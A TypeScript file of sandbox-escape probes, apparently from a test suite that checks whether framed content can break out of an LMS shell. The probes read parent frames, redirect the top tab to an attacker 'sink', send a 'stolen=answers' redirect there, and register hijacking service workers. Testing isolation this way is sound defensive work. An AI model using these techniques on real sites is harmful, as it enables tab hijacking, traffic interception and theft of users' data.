import type { Attack } from './page.js';

/** Reaches for the LMS page around it. */
export const reachesTheLmsPage: Attack = async (attempt) => {
  await attempt('document', () => parent.parent.document.title);
  await attempt('address', () => parent.parent.location.href);
  await attempt('storage', () => parent.parent.localStorage.length);
  await attempt('its other frames', () => parent.parent.frames[0] === parent);
  await attempt('a common domain', () => {
    document.domain = 'localhost';
    return parent.parent.document.title;
  });
  await attempt('the element around the shell', () => String(parent.frameElement));
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
  await attempt('place', () => {
    return new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject));
  });
};

/** Leads the whole tab away, in every way that a page has. */
export const leadsTheTabAway: Attack = async (attempt, { sink }) => {
  const press = (href: string, target: string) => {
    const link = document.createElement('a');
    Object.assign(link, { href, target });
    document.body.append(link);
    link.click();
    return 'tried';
  };
  await attempt('top.location', () => (top as Window).location.assign(sink));
  await attempt('top.location.replace', () => (top as Window).location.replace(sink));
  await attempt('top.location = javascript:', () => {
    (top as Window).location.href = 'javascript:alert(1)';
  });
  await attempt('window.open _top', () => open(sink, '_top'));
  await attempt('top.close', () => (top as Window).close());
  await attempt('link _top', () => press(sink, '_top'));
  await attempt('link _parent', () => press(sink, '_parent'));
  await attempt('form _top', () => {
    const form = document.createElement('form');
    Object.assign(form, { action: sink, target: '_top' });
    document.body.append(form);
    form.submit();
    return 'tried';
  });
  await attempt('parent.location', () => parent.location.assign(sink));
  await new Promise((resolve) => setTimeout(resolve, 500));
};

/** Leads its own frame, then the shell's, to the attacker's server. */
export const leadsItsFramesAway: Attack = (_attempt, { sink, frame }) => {
  const page = frame === 'shell' ? parent.document : document;
  const refresh = page.createElement('meta');
  refresh.httpEquiv = 'refresh';
  refresh.content = `0;url=${sink}/frame?stolen=answers`;
  page.head.append(refresh);
};

/** Puts a service worker between the shell and the network. */
export const registersServiceWorkers: Attack = async (attempt) => {
  const workers = navigator.serviceWorker;
  const shellScript = parent.document.querySelector('script')?.src ?? '';
  await attempt('for the host', () => workers.register('worker.js', { scope: '/' }));
  await attempt('for the shell', () => workers.register('worker.js', { scope: '/__shell/' }));
  await attempt('for its own folder', () => workers.register('worker.js'));
  await attempt('from the shell', () =>
    parent.navigator.serviceWorker.register(new URL('worker.js', location.href)),
  );
  await attempt('made of the shell’s script', () => workers.register(shellScript, { scope: '/__shell/' }));
  await attempt('made of a blob', () => workers.register(URL.createObjectURL(new Blob(['']))));
  await attempt('how many there are', async () => (await workers.getRegistrations()).length);
};
